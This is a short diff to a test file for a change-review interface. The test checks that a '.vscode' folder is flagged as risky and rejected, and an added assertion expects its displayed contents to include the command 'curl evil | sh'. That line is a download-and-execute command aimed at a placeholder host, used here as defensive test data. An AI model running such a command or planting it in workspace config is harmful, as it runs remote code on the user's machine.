@@ -719,6 +719,8 @@ describe("approvals", () => {
     expect(files.map((f) => f.getAttribute("data-path"))).toEqual(["docs/guide.md", "notes.txt", "logo.png", ".vscode"]);
     expect(files.map((f) => f.getAttribute("data-state"))).toEqual(["accepted", "accepted", "accepted", "rejected"]);
     expect(within(files[3]!).getByTestId("review-risk")).toHaveTextContent("VS Code runs what it names when the folder is opened");
+    // What the risky folder holds is there to read, not a blind yes.
+    expect(within(files[3]!).getByTestId("review-inside")).toHaveTextContent("curl evil | sh");
     expect(within(card).getByTestId("review-ignored")).toHaveTextContent("build/: 12 files added");
     expect(within(files[1]!).getAllByTestId("hunk")).toHaveLength(2);
     expect(screen.getByTestId("approve-button")).toHaveTextContent("Keep 4 of 5 changes");
